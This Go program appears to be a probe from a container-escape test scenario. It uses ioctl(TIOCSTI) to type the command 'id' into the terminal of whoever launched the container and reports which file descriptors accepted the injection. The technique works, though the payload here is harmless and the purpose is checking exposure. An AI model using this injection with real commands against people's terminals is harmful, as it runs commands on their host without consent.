// Command tiocsti is what a hostile image would run to type into the
// terminal of whoever started the container: ioctl(TIOCSTI) pushes a byte
// into a terminal's input queue, as if typed (tty_ioctl(4)). It tries fds
// 0, 1 and 2 and its controlling terminal, /dev/tty, and prints what each
// attempt got. The step08_escapes scenario runs it in a container.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	for fd := 0; fd < 3; fd++ {
		fmt.Printf("fd %d: %s\n", fd, push(fd))
	}
	tty, err := unix.Open("/dev/tty", unix.O_RDWR, 0)
	if err != nil {
		fmt.Printf("/dev/tty: %v\n", err)
		return
	}
	fmt.Printf("/dev/tty: %s\n", push(tty))
	os.Exit(0)
}

// push types "id\n" into the terminal fd is, if it is one.
func push(fd int) string {
	for _, c := range []byte("id\n") {
		b := c
		if err := unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(b)); err != nil {
			return err.Error()
		}
	}
	return "typed"
}
